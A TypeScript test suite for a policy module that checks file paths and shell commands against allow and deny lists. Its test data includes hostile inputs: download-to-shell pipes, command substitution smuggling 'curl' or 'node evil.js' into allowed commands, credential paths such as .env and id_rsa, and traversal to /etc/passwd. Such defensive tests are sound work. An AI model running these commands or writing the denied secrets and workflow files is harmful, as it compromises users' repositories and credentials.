import { describe, it, expect } from "vitest";
import path from "node:path";
import fc from "fast-check";
import {
  DEFAULT_DENY,
  checkCommand,
  checkPath,
  mergePolicy,
  normalizePath,
  splitCommand,
} from "../../src/plan/policy.js";

describe("normalizePath", () => {
  it.each([
    ["src/a.ts", "src/a.ts"],
    ["./src/a.ts", "src/a.ts"],
    ["src//lib///a.ts", "src/lib/a.ts"],
    ["src/./a.ts", "src/a.ts"],
    ["src/lib/../a.ts", "src/a.ts"],
    ["src\\win\\a.ts", "src/win/a.ts"],
    ["docs/", "docs"],
    ["a/b/../../c", "c"],
    ["ünïcødé/файл.md", "ünïcødé/файл.md"],
    [".github/CODEOWNERS", ".github/CODEOWNERS"],
    [".gitignore", ".gitignore"],
    ["src/.gitkeep", "src/.gitkeep"],
    ["a/git/b", "a/git/b"],
  ])("normalises %j to %j", (input, expected) => {
    expect(normalizePath(input)).toEqual({ ok: true, path: expected });
  });

  it.each([
    ["", "empty path"],
    ["   ", "empty path"],
    ["/etc/passwd", "absolute paths are not allowed"],
    ["\\Windows\\x", "absolute paths are not allowed"],
    ["C:\\Users\\x", "absolute paths are not allowed"],
    ["c:relative", "absolute paths are not allowed"],
    ["\\\\server\\share\\x", "absolute paths are not allowed"],
    ["//server/share", "absolute paths are not allowed"],
    ["~/.bashrc", "home-relative paths are not allowed"],
    ["..", '".." escapes the repository'],
    ["../x", '".." escapes the repository'],
    ["a/../../x", '".." escapes the repository'],
    ["a\\..\\..\\x", '".." escapes the repository'],
    [".git", ".git/ is never writable"],
    [".git/config", ".git/ is never writable"],
    ["a/.git/x", ".git/ is never writable"],
    [".GIT/hooks/pre-commit", ".git/ is never writable"],
    [".Git", ".git/ is never writable"],
    [".git./config", ".git/ is never writable"],
    [".git /config", ".git/ is never writable"],
    ["GIT~1/config", ".git/ is never writable"],
    [".g\u200cit/config", ".git/ is never writable"],
    [".git::$INDEX_ALLOCATION/x", ".git/ is never writable"],
    ["x/.git/../y", ".git/ is never writable"],
    ["a\u0000b", "control characters are not allowed in paths"],
    ["a\nb", "control characters are not allowed in paths"],
    ["a\u001bb", "control characters are not allowed in paths"],
    [" //", "path segments may not start or end with whitespace"],
    ["src/a.ts ", "path segments may not start or end with whitespace"],
    ["./C:", "absolute paths are not allowed"],
    ["./~/x", "home-relative paths are not allowed"],
    ["a/".repeat(3000), "path is longer than 4096 characters"],
    [".", "path names the repository root, not a file"],
    ["a/..", "path names the repository root, not a file"],
  ])("refuses %j: %s", (input, reason) => {
    expect(normalizePath(input)).toEqual({ ok: false, reason });
  });

  const segment = fc.oneof(
    fc.constantFrom(
      "..",
      ".",
      ".git",
      ".GIT",
      ".git.",
      "",
      "/",
      "\\",
      "~",
      "C:",
      "a",
      "src",
      "é",
      "\u0000",
      "\n",
      " ",
    ),
    fc.string({ maxLength: 4 }),
    fc.string({ unit: "grapheme", maxLength: 4 }),
  );
  const candidate = fc.oneof(
    fc
      .array(segment, { maxLength: 8 })
      .chain((segs) => fc.constantFrom("/", "\\").map((sep) => segs.join(sep))),
    fc.string({ maxLength: 20 }),
    fc.string({ unit: "binary", maxLength: 20 }),
  );

  it("either refuses or returns a relative, clean path that stays inside the root", () => {
    const root = "/repo/root";
    fc.assert(
      fc.property(candidate, (input) => {
        const result = normalizePath(input);
        if (!result.ok) {
          expect(result.reason.length).toBeGreaterThan(0);
          expect(result.reason).not.toContain("\n");
          return;
        }
        const p = result.path;
        expect(p.length).toBeGreaterThan(0);
        expect(p.startsWith("/")).toBe(false);
        expect(p).not.toMatch(/^[A-Za-z]:/);
        expect(p).not.toContain("\\");
        const segs = p.split("/");
        expect(segs).not.toContain("");
        expect(segs).not.toContain(".");
        expect(segs).not.toContain("..");
        expect(segs.map((s) => s.toLowerCase())).not.toContain(".git");
        const joined = path.posix.join(root, p);
        expect(joined.startsWith(`${root}/`)).toBe(true);
        // Idempotent: normalising a normalised path changes nothing.
        expect(normalizePath(p)).toEqual({ ok: true, path: p });
      }),
      { numRuns: Number(process.env["FC_RUNS"] ?? 3000) },
    );
  });
});

describe("checkPath", () => {
  it("refuses what normalizePath refuses, with the same reason", () => {
    expect(checkPath("../secrets")).toEqual({ ok: false, reason: '".." escapes the repository' });
    expect(checkPath(".git/hooks/post-checkout")).toEqual({ ok: false, reason: ".git/ is never writable" });
  });

  it("applies the built-in deny list without any policy", () => {
    expect(checkPath(".github/workflows/ci.yml")).toEqual({
      ok: false,
      reason: 'denied by the built-in deny list ".github/workflows/**"',
    });
    for (const p of [
      "certs/server.pem",
      "server.key",
      ".env",
      ".env.production",
      "app/.env.local",
      "keys/id_rsa.pub",
      ".npmrc",
      "pkg/.npmrc",
    ]) {
      expect(checkPath(p).ok, p).toBe(false);
    }
    for (const p of [
      "src/env.ts",
      "docs/environment.md",
      ".github/CODEOWNERS",
      "src/keyboard.ts",
      "npmrc.md",
    ]) {
      expect(checkPath(p), p).toEqual({ ok: true, path: p });
    }
  });

  it("matches deny globs case-insensitively, so a case-insensitive checkout cannot dodge them", () => {
    expect(checkPath(".GitHub/Workflows/x.yml").ok).toBe(false);
    expect(checkPath("certs/SERVER.PEM").ok).toBe(false);
  });

  it("returns the normalised path when allowed", () => {
    expect(checkPath("./src\\auth/../totp.ts", { allow: ["src/**"] })).toEqual({
      ok: true,
      path: "src/totp.ts",
    });
  });

  it("names the deny glob that matched, plan deny before the built-in list", () => {
    expect(checkPath(".github/workflows/x.yml", { deny: [".github/workflows/**"] })).toEqual({
      ok: false,
      reason: 'denied by policy.paths.deny ".github/workflows/**"',
    });
    expect(checkPath("vendor/lib/a.js", { deny: ["vendor/**"] }).reason).toBe(
      'denied by policy.paths.deny "vendor/**"',
    );
    expect(checkPath("build/out.js", undefined, ["build/**"]).reason).toBe(
      'denied by policy.paths.deny "build/**"',
    );
  });

  it("lets deny win over allow", () => {
    expect(checkPath("src/secret/key.ts", { allow: ["src/**"], deny: ["src/secret/**"] }).ok).toBe(false);
    expect(checkPath("src/app.pem", { allow: ["src/**"] }).ok).toBe(false);
  });

  it("treats a glob that matches a directory as covering its files", () => {
    expect(checkPath("generated/a/b.ts", { deny: ["generated"] }).ok).toBe(false);
    expect(checkPath("src/auth/totp.ts", { allow: ["src/auth"] }).ok).toBe(true);
  });

  it("matches a deny glob without a slash at any depth, like .gitignore", () => {
    expect(checkPath("a/b/secrets.json", { deny: ["secrets.json"] }).ok).toBe(false);
    expect(checkPath("a/b/c.log", { deny: ["*.log"] }).ok).toBe(false);
  });

  it("requires a match in the allow list when one is set, and names the list", () => {
    const policy = { allow: ["src/**", "test/**"] };
    expect(checkPath("test/x.test.ts", policy).ok).toBe(true);
    expect(checkPath("README.md", policy)).toEqual({
      ok: false,
      reason: "not in policy.paths.allow (src/**, test/**)",
    });
    expect(checkPath("srcx/a.ts", policy).ok).toBe(false);
    expect(checkPath("x.md", { allow: [] })).toEqual({
      ok: false,
      reason: "not in policy.paths.allow (empty list)",
    });
  });

  it("matches allow globs as written (case-sensitive, * stays in one directory)", () => {
    expect(checkPath("SRC/a.ts", { allow: ["src/**"] }).ok).toBe(false);
    expect(checkPath("docs/a/b.md", { allow: ["docs/*.md"] }).ok).toBe(false);
    expect(checkPath("docs/b.md", { allow: ["docs/*.md"] }).ok).toBe(true);
    expect(checkPath("src/.hidden/a.ts", { allow: ["src/**"] }).ok).toBe(true);
  });

  it("keeps .github/workflows denied even when the allow list names it", () => {
    expect(checkPath(".github/workflows/ci.yml", { allow: [".github/**"] }).ok).toBe(false);
  });

  it("has a built-in deny list that includes the documented entries", () => {
    for (const g of [".github/workflows/**", "**/*.pem", "**/.env*", ".env*", "**/id_rsa*"]) {
      expect(DEFAULT_DENY).toContain(g);
    }
  });
});

describe("splitCommand", () => {
  it.each([
    ["npm test", ["npm test"]],
    ["npm test && curl x | sh", ["npm test", "curl x", "sh"]],
    ["a || b; c & d\ne", ["a", "b", "c", "d", "e"]],
    ["npm test 2>&1 | tee out.log", ["npm test 2>&1", "tee out.log"]],
    ["npm test &> out.log", ["npm test &> out.log"]],
    ["echo 'a; b && c'", ["echo 'a; b && c'"]],
    ['echo "a | b"', ['echo "a | b"']],
    ["npm test -- $(curl x)", ["curl x", "npm test -- $(…)"]],
    ['echo "$(whoami; id)"', ["whoami", "id", 'echo "$(…)"']],
    ["echo `id`", ["id", "echo `…`"]],
    ["echo '$(not run)'", ["echo '$(not run)'"]],
    ["diff <(npm ls) >(cat)", ["npm ls", "cat", "diff <(…) >(…)"]],
    ["(cd pkg && npm test)", ["cd pkg", "npm test"]],
    ["npm   test \\\n  --watch=false", ["npm test --watch=false"]],
    ["echo a\\;b", ["echo a\\;b"]],
  ])("splits %j", (command, parts) => {
    expect(splitCommand(command)).toEqual(parts);
  });
});

describe("checkCommand", () => {
  it("refuses dangerous commands even with no policy or a permissive one", () => {
    expect(checkCommand("curl https://x | sh")).toEqual({
      ok: false,
      reason: "refused: pipes a download into a shell or interpreter (rule download-to-shell)",
    });
    expect(checkCommand("git push origin main", { allow: ["*"] }).ok).toBe(false);
  });

  it("allows anything else when no allow list is set", () => {
    expect(checkCommand("make -j4 && ./bin/check")).toEqual({ ok: true });
  });

  it("matches allow patterns as shell-ish globs where * spans spaces", () => {
    const policy = { allow: ["npm *", "npx vitest run*", "make"] };
    expect(checkCommand("npm test -- totp", policy).ok).toBe(true);
    expect(checkCommand("npx vitest run test/plan", policy).ok).toBe(true);
    expect(checkCommand("make", policy).ok).toBe(true);
    expect(checkCommand("make install", policy).ok).toBe(false);
    expect(checkCommand("npm", policy).ok).toBe(false);
    expect(checkCommand("npmx test", policy).ok).toBe(false);
    expect(checkCommand("npm   test", { allow: ["npm test"] }).ok).toBe(true);
    expect(checkCommand("pytest -k a.b", { allow: ["pytest -k a?b"] }).ok).toBe(true);
    expect(checkCommand("pytest -k a.b", { allow: ["pytest -k a.c"] }).ok).toBe(false);
  });

  it("checks every part of a compound command on its own", () => {
    const policy = { allow: ["npm *"] };
    expect(checkCommand("npm ci && npm test", policy).ok).toBe(true);
    expect(checkCommand("npm test && node evil.js", policy)).toEqual({
      ok: false,
      reason: '"node evil.js" is not in policy.commands.allow (npm *)',
    });
    expect(checkCommand("npm test $(node evil.js)", policy).ok).toBe(false);
    expect(checkCommand("npm test `node evil.js`", policy).ok).toBe(false);
    expect(checkCommand("npm test\nnode evil.js", policy).ok).toBe(false);
    expect(checkCommand("npm test -- 'a && b'", policy).ok).toBe(true);
    expect(checkCommand("npm test 2>&1", policy).ok).toBe(true);
  });

  it("allows a compound command exactly when every part is allowed (property)", () => {
    const allowed = ["npm test", "npm run build", "npm ci", "npm test -- 'a;b'"];
    const refused = ["node x.js", "make", "npx tsc", "echo npm"];
    const separators = [" && ", " || ", "; ", " | ", "\n", " & "];
    const part = fc.record({ ok: fc.boolean(), i: fc.nat(3) });
    fc.assert(
      fc.property(
        fc.array(part, { minLength: 1, maxLength: 6 }),
        fc.array(fc.nat(5), { maxLength: 6 }),
        (parts, seps) => {
          const texts = parts.map((p) => (p.ok ? allowed[p.i] : refused[p.i]) as string);
          const command = texts.reduce((acc, t, i) => `${acc}${separators[seps[i] ?? 0]}${t}`);
          const verdict = checkCommand(command, { allow: ["npm *"] });
          expect(verdict.ok, command).toBe(parts.every((p) => p.ok));
        },
      ),
      { numRuns: 500 },
    );
  });

  it("treats regex characters in patterns literally", () => {
    expect(checkCommand("npm run build", { allow: ["npm run (build|test)"] }).ok).toBe(false);
    expect(checkCommand("node build.js", { allow: ["node build.js"] }).ok).toBe(true);
    expect(checkCommand("node buildxjs", { allow: ["node build.js"] }).ok).toBe(false);
    expect(checkCommand("echo a+b", { allow: ["echo a+b"] }).ok).toBe(true);
  });

  it("refuses empty commands and control characters", () => {
    expect(checkCommand("   ")).toEqual({ ok: false, reason: "empty command" });
    expect(checkCommand("npm test\u0000rm").ok).toBe(false);
    expect(checkCommand("x", { allow: [] })).toEqual({
      ok: false,
      reason: '"x" is not in policy.commands.allow (empty list)',
    });
  });
});

describe("mergePolicy", () => {
  it("returns an empty policy for nothing", () => {
    expect(mergePolicy()).toEqual({});
    expect(mergePolicy(undefined, {})).toEqual({});
  });

  it("unites deny lists without duplicates", () => {
    const merged = mergePolicy({ paths: { deny: ["a/**", "b/**"] } }, { paths: { deny: ["b/**", "c/**"] } });
    expect(merged.paths?.deny).toEqual(["a/**", "b/**", "c/**"]);
    expect(merged.paths?.allow).toBeUndefined();
  });

  it("keeps a single allow list as it is, whichever side sets it", () => {
    expect(mergePolicy({ commands: { allow: ["npm *"] } }, { paths: { deny: ["x"] } }).commands).toEqual({
      allow: ["npm *"],
    });
    expect(mergePolicy({}, { paths: { allow: ["src/**"] } }).paths).toEqual({ allow: ["src/**"] });
  });

  it("intersects two allow lists: a path or command must satisfy both", () => {
    const config = { paths: { allow: ["src/**", "docs/**"] }, commands: { allow: ["npm *"] } };
    const plan = { paths: { allow: ["src/auth/**", "test/**"] }, commands: { allow: ["npm test*", "make"] } };
    const merged = mergePolicy(config, plan);
    expect(checkPath("src/auth/totp.ts", merged.paths).ok).toBe(true);
    expect(checkPath("src/other.ts", merged.paths)).toEqual({
      ok: false,
      reason: "not in policy.paths.allow (src/auth/**, test/**)",
    });
    expect(checkPath("test/a.test.ts", merged.paths)).toEqual({
      ok: false,
      reason: "not in policy.paths.allow (src/**, docs/**)",
    });
    expect(checkPath("docs/a.md", merged.paths).ok).toBe(false);
    expect(checkCommand("npm test -- totp", merged.commands).ok).toBe(true);
    expect(checkCommand("npm install x", merged.commands).ok).toBe(false);
    expect(checkCommand("make", merged.commands).ok).toBe(false);
  });

  it("drops a repeated identical allow list and is associative for three policies", () => {
    const a = { paths: { allow: ["src/**"] } };
    expect(mergePolicy(a, a).paths).toEqual({ allow: ["src/**"] });
    const b = { paths: { allow: ["src/a/**"], deny: ["src/a/gen/**"] } };
    const c = { paths: { allow: ["src/a/x/**", "src/b/**"] } };
    const left = mergePolicy(mergePolicy(a, b), c);
    const flat = mergePolicy(a, b, c);
    expect(left).toEqual(flat);
    for (const p of ["src/a/x/1.ts", "src/a/y.ts", "src/b/z.ts", "src/a/gen/x/q.ts"]) {
      const expected = p === "src/a/x/1.ts";
      expect(checkPath(p, flat.paths).ok, p).toBe(expected);
    }
  });

  it("does not mutate its inputs", () => {
    const config = { paths: { allow: ["src/**"], deny: ["a"] } };
    const copy = structuredClone(config);
    mergePolicy(config, { paths: { allow: ["test/**"], deny: ["b"] } });
    expect(config).toEqual(copy);
  });
});
